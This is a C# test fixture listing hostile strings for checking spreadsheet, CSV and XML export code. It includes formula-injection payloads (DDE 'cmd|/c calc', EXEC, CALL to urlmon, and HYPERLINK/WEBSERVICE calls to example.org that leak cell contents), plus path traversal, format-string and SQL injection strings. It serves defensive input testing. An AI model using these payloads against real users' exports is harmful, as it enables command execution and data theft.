namespace Forecasting.Tests.Reports;

/// <summary>Codes that spreadsheets, CSV readers and XML writers are known to bend.</summary>
internal static class HostileText
{
    /// <summary>What a spreadsheet might take for a formula, a command or a link.</summary>
    public static readonly string[] Injections =
    [
        "=1+1", "=cmd|'/c calc'!A0", "=HYPERLINK(\"http://example.org?x=\"&A1,\"ok\")", "=DDE(\"cmd\";\"/c calc\";\"1\")", "=IMPORTXML(CONCAT(\"x\"),\"//a\")",
        "=WEBSERVICE(\"http://example.org\")", "=A1", "=-1", "==1", "=\"a\"&\"b\"", "= 1", "=@SUM(1)", "=IF(1,2,3)", "={1,2}", "=RAND()",
        "+1", "+A1+A2", "+cmd|' /C calc'!A0", "+44 20 7946 0958", "++1", "-1", "-2+3", "-cmd|'/c calc'!A0", "--1", "-A1", "- item",
        "@x", "@SUM(1+1)*cmd|'/c calc'!A0", "@@", "\t=1+1", "\tx", "\r=1+1", "\n=1+1", "\r\n=1+1", "\0=1+1", " =1+1", "   +1", "\u00A0=1+1",
        "\u3000@x", "＝1+1", "＋1", "－1", "＠x", "'=1+1", "'00123", "''x", "'", "=", "+", "-", "@", "\"=1+1\"", ";=1+1", ",=1+1", "|=1+1", "%00=1",
        .. from start in (string[])["=", "+", "-", "@", "\t=", "\r=", "＝", "＋"]
           from payload in (string[])
           [
               "HYPERLINK(\"http://example.org\",\"x\")", "DDE(\"cmd\",\"/c calc\",\"x\")", "cmd|' /C calc'!'A1'", "MSEXCEL|'\\..\\..\\cmd.exe'!''",
               "IMPORTDATA(\"http://example.org\")", "EXEC(\"calc\")", "CALL(\"urlmon\",\"x\",\"JJ\",0)", "INDIRECT(\"A1\")",
           ]
           select start + payload,
    ];

    /// <summary>What a spreadsheet might take for a number, a date or a truth value, or what does not survive careless encoding.</summary>
    public static readonly string[] Codes =
    [
        "00123", "0", "-0", "123456789012345678", "1E5", "1e-5", "0x1F", "MARCH1", "SEP-2", "3/4", "12-3", "1:30", "2024-02-30", "2024-01-01", "TRUE", "false",
        "1,5", "1.5", "1.234", "1 000", "5%", "$5", "€5", "NaN", "Infinity", "NULL", "N/A", "#REF!", "#N/A", "\"quoted\"", "a\"b", "\"", "a,b", "a;b", "a|b",
        " outer ", "\u00A0outer\u00A0", "a\tb", "a\nb", "a\r\nb", "a\rb", "قطعة-٧", "٠١٢٣", "部品番号", "ｱｲｳ", "🚲", "👩‍👩‍👧", "e\u0301", "\u00E9", "a\u200Bb", "\u200Fabc",
        "\uFEFFbom", "Straße", "İi", "<b>&amp;</b>", "]]>", "_x0041_", "_x005F_x0041_", "_x005F_xD83D__xDE00_", "_x_", "a\u0001b", "a\uFFFEb", "a\u000Bb", "\\u0041",
        "../../etc", "C:\\x", "%s%n", "{0}", "${x}", "' OR 1=1 --", new string('k', 200),
    ];

    /// <summary>All of them, each once.</summary>
    public static readonly string[] All = [.. Injections.Concat(Codes).Distinct(StringComparer.Ordinal)];
}
